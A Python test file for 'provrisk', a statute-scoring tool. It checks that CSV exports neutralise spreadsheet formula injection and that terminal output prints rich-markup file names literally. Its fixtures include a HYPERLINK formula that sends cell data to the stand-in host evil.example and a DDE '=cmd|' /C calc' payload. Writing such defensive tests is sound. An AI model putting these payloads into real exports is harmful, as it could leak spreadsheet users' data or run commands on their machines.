"""A statute's words and its file's name, where provrisk writes them: spreadsheets and the terminal.

- CSV: every CSV provrisk writes (``?format=csv``, ``provrisk score --format
  csv``, the batch's ``reports/<id>.csv``, ``provisions.csv`` and
  ``matrix.csv``) has no cell a spreadsheet would read as a formula, from a
  statute whose headings and provisions begin with ``=``, ``+``, ``-``, ``@``,
  tab and carriage return, and a manifest whose titles do.
- Terminal: file names and statute text with rich markup (``evil[/red].txt``)
  are printed as they are by every command, on success and on error, never a
  MarkupError.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from typer.testing import CliRunner

from provrisk.batch.run import collect_inputs, run_batch
from provrisk.cli import app
from provrisk.score.formats import FORMULA_TRIGGERS, spreadsheet_safe
from provrisk.serve.app import ServeSettings, create_app

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
# Headings and provisions that begin with every character a spreadsheet may start a formula with.
STATUTE = (
    f"1. {FORMULA}\nAn authorised officer may intercept any communication without a warrant.\n\n"
    "2. +Retention\n@SUM(1+1) A service provider shall retain all traffic data for five years.\n\n"
    "3. -Offences\n-1+1 A person who sends a grossly offensive message commits an offence.\n\n"
    "4. Tabs\n\t=1+2 A person who accesses a computer without authority commits an offence.\n"
)


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def assert_no_formula(text: str) -> None:
    for cell in _cells(text):
        assert not cell or (cell[0] not in FORMULA_TRIGGERS and cell.lstrip(" \n\r\t")[:1] not in FORMULA_TRIGGERS), cell


def assert_formulas_were_present_and_kept(text: str) -> None:
    """The test statute's formulas reach the CSV, neutralised: the test cannot pass by losing them."""
    cells = _cells(text)
    assert f"'{FORMULA}" in cells
    assert any(cell.startswith("'@SUM(1+1)") for cell in cells)
    assert any(cell.startswith("'-") for cell in cells)


@pytest.mark.parametrize("trigger", sorted(FORMULA_TRIGGERS))
def test_every_formula_trigger_is_neutralised(trigger):
    assert spreadsheet_safe(f"{trigger}cmd") == f"'{trigger}cmd"
    if not trigger.isspace():  # a formula behind leading spaces and line breaks is still one
        assert spreadsheet_safe(f"  \n{trigger}cmd") == f"'  \n{trigger}cmd"


@pytest.mark.parametrize("cell", ["", "plain text", "s. 1", "'already quoted", "a=b", "1+1", 0.25, 3, None])
def test_cells_that_start_no_formula_are_left_as_they_are(cell):
    assert spreadsheet_safe(cell) == cell


def test_api_csv_has_no_formula_cell():
    with TestClient(create_app(ServeSettings())) as client:
        response = client.post("/v1/score", params={"format": "csv"}, files={"file": ("act.txt", STATUTE.encode())})
    assert response.status_code == 200, response.text
    assert_formulas_were_present_and_kept(response.text)
    assert_no_formula(response.text)


def test_score_command_csv_has_no_formula_cell(tmp_path):
    statute = tmp_path / "act.txt"
    statute.write_text(STATUTE, encoding="utf-8")
    result = CliRunner().invoke(app, ["score", str(statute), "--format", "csv"])
    assert result.exit_code == 0, result.output
    assert_formulas_were_present_and_kept(result.stdout)
    assert_no_formula(result.stdout)


def test_batch_csvs_have_no_formula_cell(tmp_path):
    corpus = tmp_path / "corpus"
    (corpus / "texts").mkdir(parents=True)
    records = [{"id": "act", "title": "=cmd|' /C calc'!A0", "jurisdiction": "@XA", "kind": "statute"}]
    (corpus / "manifest.jsonl").write_text("".join(json.dumps(r) + "\n" for r in records), encoding="utf-8")
    (corpus / "texts" / "act.txt").write_text(STATUTE, encoding="utf-8")
    out = tmp_path / "out"
    result = run_batch(collect_inputs(corpus), out, workers=1, formats=("json", "csv"))
    assert result.count("scored") == 1
    for path in (out / "reports" / "act.csv", out / "provisions.csv", out / "matrix.csv"):
        assert_no_formula(path.read_text(encoding="utf-8"))
    assert_formulas_were_present_and_kept((out / "reports" / "act.csv").read_text(encoding="utf-8"))
    assert "'=cmd|' /C calc'!A0" in _cells((out / "provisions.csv").read_text(encoding="utf-8"))
    assert "'@XA" in _cells((out / "matrix.csv").read_text(encoding="utf-8"))


# --- the terminal -----------------------------------------------------------------------------------


# Paths, as the probe's evil[/red].txt is: a "/" inside the markup is a folder.
MARKUP_NAMES = ["evil[/red].txt", "[bold]loud[/bold].txt", "[link=x]y[/link].txt", "a[/].txt"]


def _invoke(*args) -> object:
    return CliRunner().invoke(app, [str(arg) for arg in args])


def _file(name: str, text: str) -> Path:
    """``name`` under the current folder (a test's tmp_path), with the folders its slashes make."""
    path = Path(name)
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text, encoding="utf-8")
    return path


def _no_markup_error(result) -> None:
    assert "MarkupError" not in result.output and "Traceback" not in result.output, result.output


@pytest.mark.parametrize("name", MARKUP_NAMES)
def test_score_prints_a_file_name_with_markup_as_it_is(tmp_path, monkeypatch, name):
    monkeypatch.chdir(tmp_path)
    statute = _file(name, STATUTE.replace("communication", "communication [/red] [bold]"))
    table = _invoke("score", statute)
    written = _invoke("score", statute, "--format", "json", "--output", f"out-{name}.json")
    for result in (table, written):
        assert result.exit_code == 0, result.output
        _no_markup_error(result)
    assert name in table.stdout
    said = " ".join(written.stderr.split())  # rich wraps long lines
    assert f"{Path(name).name}: 4 of 4 provisions flagged" in said and f"report written to out-{name}.json" in said


@pytest.mark.parametrize("name", MARKUP_NAMES)
def test_errors_print_a_file_name_with_markup_as_it_is(tmp_path, monkeypatch, name):
    monkeypatch.chdir(tmp_path)
    not_a_statute = _file(name, "Dear colleague, the minutes are attached.")
    for command in (["score", not_a_statute], ["segment", not_a_statute], ["ingest", f"missing-{name}"]):
        result = _invoke(*command)
        assert result.exit_code == 2, result.output
        _no_markup_error(result)
        (line,) = result.stderr.strip().splitlines()
        assert line.startswith("error: ") and name in line


def test_segment_table_and_batch_print_markup_as_it_is(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    statute = _file("statutes[/red]/act[bold].txt", STATUTE.replace("Tabs", "Tabs [/red]"))
    (statute.parent / "broken[bold].pdf").write_bytes(b"%PDF-1.7 not really")
    (statute.parent / "notes[i].md").write_text("ignored", encoding="utf-8")
    segmented = _invoke("segment", statute, "--format", "table")
    assert segmented.exit_code == 0, segmented.output
    _no_markup_error(segmented)
    assert "act[bold].txt" in segmented.stdout and "Tabs [/red]" in segmented.stdout
    batch = _invoke("batch", statute.parent, "--out", "out", "--workers", "1")
    assert batch.exit_code == 2, batch.output
    _no_markup_error(batch)
    assert "failed: " in batch.stderr and "statutes[/red]/broken[bold].pdf" in batch.stderr and "notes[i].md" in batch.stderr
